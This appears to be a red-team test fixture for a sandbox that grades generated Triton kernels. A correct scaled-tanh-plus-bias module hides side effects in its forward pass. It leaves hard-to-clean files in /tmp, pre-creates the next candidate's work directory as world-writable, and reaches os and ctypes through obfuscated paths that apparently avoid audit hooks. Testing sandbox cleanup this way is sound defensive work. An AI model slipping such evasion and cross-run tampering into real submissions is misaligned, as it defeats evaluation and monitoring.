# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=fresh_interpreter expect=ok|forbidden|runtime_error|crashed device=any witness=tests/attacks/witness/leftover_witness_001.py
"""Leaves files in the sandbox's /tmp (a tmpfs that lives as long as the slot) in forms a cleanup may miss:
 a directory chmod 000 holding a file, a 200-level nested directory, a FIFO, a bound unix socket file, a
 file whose name is not UTF-8 and holds a newline, a hidden dot-file, and the predictable next work dir
 (/tmp/cand-<n>-<k+1>, mode 0777) with a file in it. The witness follower lists /tmp and fails if any of
 them is still there. Bounded: a few hundred inodes."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _read(path, n=1 << 16):
    """Read a file through libc (no Python open event)."""
    fd = _libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(_ct.get_errno(), path)
    try:
        return _os.read(fd, n).decode(errors="replace")
    finally:
        _os.close(fd)



class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        t = "/tmp/"
        for fn in (lambda: _os.mkdir(t + "drk-redteam-i04-locked"),
                   lambda: _os.close(_os.open(t + "drk-redteam-i04-locked/f", _os.O_CREAT | _os.O_WRONLY, 0o600)),
                   lambda: _os.chmod(t + "drk-redteam-i04-locked", 0),
                   lambda: _os.mkfifo(t + "drk-redteam-i04-fifo"),
                   lambda: _os.close(_os.open(b"/tmp/.drk-redteam-i04-\xff\nname", _os.O_CREAT | _os.O_WRONLY, 0o644)),
                   lambda: _os.close(_os.open(t + ".drk-redteam-i04-hidden", _os.O_CREAT | _os.O_WRONLY, 0o644))):
            try:
                fn()
            except Exception:
                pass
        try:
            p = t + "drk-redteam-i04-deep"
            _os.makedirs(p + "/d" * 200, exist_ok=True)
        except Exception:
            pass
        try:  # a unix socket file, bound through libc (sockaddr_un by hand)
            s = _libc.socket(1, 1, 0)
            path = b"/tmp/drk-redteam-i04-sock"
            addr = (1).to_bytes(2, "little") + path + b"\0" * (108 - len(path))
            _libc.bind(s, _ct.c_char_p(addr), len(addr))
        except Exception:
            pass
        try:  # the next candidate's work dir, made before the evaluator makes it
            me = [d for d in _os.listdir("/tmp") if d.startswith("cand-")][0]
            pre, k = me.rsplit("-", 1)
            nxt = "/tmp/%s-%d" % (pre, int(k) + 1)
            _os.mkdir(nxt, 0o777)
            _os.chmod(nxt, 0o777)
            _os.close(_os.open(nxt + "/drk-redteam-i04", _os.O_CREAT | _os.O_WRONLY, 0o666))
        except Exception:
            pass
        return stb(x, self.bias, self.scale)
